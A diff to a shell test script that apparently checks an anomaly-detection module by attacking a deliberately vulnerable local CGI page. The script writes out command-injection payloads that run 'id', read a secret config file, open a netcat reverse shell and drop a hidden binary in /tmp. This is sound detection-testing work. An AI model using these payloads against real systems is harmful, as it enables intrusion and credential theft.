@@ -156,7 +156,7 @@ trap "n=\$((n + 1))" USR1
 while :; do sleep 1 & wait; kill -USR1 $$; echo "$n" > /tmp/beat; done'
 
 # --- the services answer their clients -----------------------------------------
-web_get() { in_net web curl -sS --max-time 20 "http://127.0.0.1:$WEB_PORT$1"; }
+web_get() { in_net web curl -sS --max-time 60 "http://127.0.0.1:$WEB_PORT$1"; }
 pg_sql() { in_net pg "$PG/psql" -h 127.0.0.1 -p "$PG_PORT" -U postgres -d postgres -XAtq -c "$1"; }
 # shellcheck disable=SC2317 # called through wait_for
 web_ok() { web_get '/cgi-bin/search?q=apple' | grep -q 'apple pie'; }
@@ -181,7 +181,7 @@ cat > /tmp/client-web.sh <<C
 i=0 e=0
 while :; do
 	for u in / /style.css /cgi-bin/search?q=apple /cgi-bin/search?q=cake /cgi-bin/search?q=lemon+curd /nothing-here; do
-		curl -sS --max-time 20 -o /dev/null "http://127.0.0.1:$WEB_PORT\$u" || e=\$((e + 1))
+		curl -sS --max-time 60 -o /dev/null "http://127.0.0.1:$WEB_PORT\$u" || e=\$((e + 1))
 	done
 	i=\$((i + 1)); echo \$i > /tmp/web.rounds; echo \$e > /tmp/web.errors
 done
@@ -325,16 +325,17 @@ judge() {
 	fi
 	[ -s /tmp/new-alerts ] && note "  first: $(head -n 1 /tmp/new-alerts | cut -c1-200)"
 }
-# The attacker's side of a request to the search page: curl encodes the query.
-inject() { in_net web curl -sS --max-time 30 -G --data-urlencode "q=$1" "http://127.0.0.1:$WEB_PORT/cgi-bin/search"; }
+# The attacker's side of a request to the search page: curl encodes the
+# query; '#' comments out the file name the page appends.
+inject() { in_net web curl -sS --max-time 60 -G --data-urlencode "q=$1" "http://127.0.0.1:$WEB_PORT/cgi-bin/search"; }
 
 snapshot
-inject 'x /dev/null; id' > /tmp/i.out 2>&1
+inject 'x /dev/null; id #' > /tmp/i.out 2>&1
 grep -q 'uid=33' /tmp/i.out || fail "web: the command injection did not run id: $(head -c 300 /tmp/i.out)"
 judge web "command injected through the CGI page (id)"
 
 snapshot
-inject 'x /dev/null; cat /etc/webapp/secret.conf' > /tmp/i.out 2>&1
+inject 'x /dev/null; cat /etc/webapp/secret.conf #' > /tmp/i.out 2>&1
 grep -q 's3cr3t-web-app-password' /tmp/i.out || fail "web: the secret read did not return the secret: $(head -c 300 /tmp/i.out)"
 judge web "secret read through the CGI page"
 
@@ -344,13 +345,13 @@ snapshot
 (printf 'id\nexit\n'; sleep 8) | in_net web nc -l -p "$RSH_PORT" > /tmp/rsh.out 2>&1 &
 lpid=$!
 sleep 1
-inject "x /dev/null; nc 127.0.0.1 $RSH_PORT -e /bin/sh" > /tmp/i.out 2>&1
+inject "x /dev/null; nc 127.0.0.1 $RSH_PORT -e /bin/sh #" > /tmp/i.out 2>&1
 wait "$lpid"
 grep -q 'uid=33' /tmp/rsh.out || fail "web: the reverse shell did not connect back: $(head -c 300 /tmp/rsh.out) $(head -c 300 /tmp/i.out)"
 judge web "reverse shell (nc -e /bin/sh to a listener)"
 
 snapshot
-inject 'x /dev/null; cp /bin/busybox /tmp/.x; chmod 755 /tmp/.x; /tmp/.x uname -a' > /tmp/i.out 2>&1
+inject 'x /dev/null; cp /bin/busybox /tmp/.x; chmod 755 /tmp/.x; /tmp/.x uname -a #' > /tmp/i.out 2>&1
 { grep -q Linux /tmp/i.out && [ -x /tmp/bundle-web/rootfs/tmp/.x ]; } ||
 	fail "web: the dropped binary did not run: $(head -c 300 /tmp/i.out)"
 judge web "binary dropped in /tmp and run"
@@ -386,6 +387,8 @@ sysanomctl alerts | tail -n 12
 # shellcheck disable=SC2086 # a list of pids
 kill $clients 2> /dev/null
 for s in web pg cache side; do stop_container "$s"; done
+# The later scenarios get their memory back (the database is ~50 MB of tmpfs).
+rm -rf /tmp/bundle-web /tmp/bundle-pg /tmp/bundle-cache /tmp/bundle-side
 run rmmod sysanom
 note "total $(elapsed)s"
 echo "SUMMARY (scenario time $(elapsed)s):$summary"
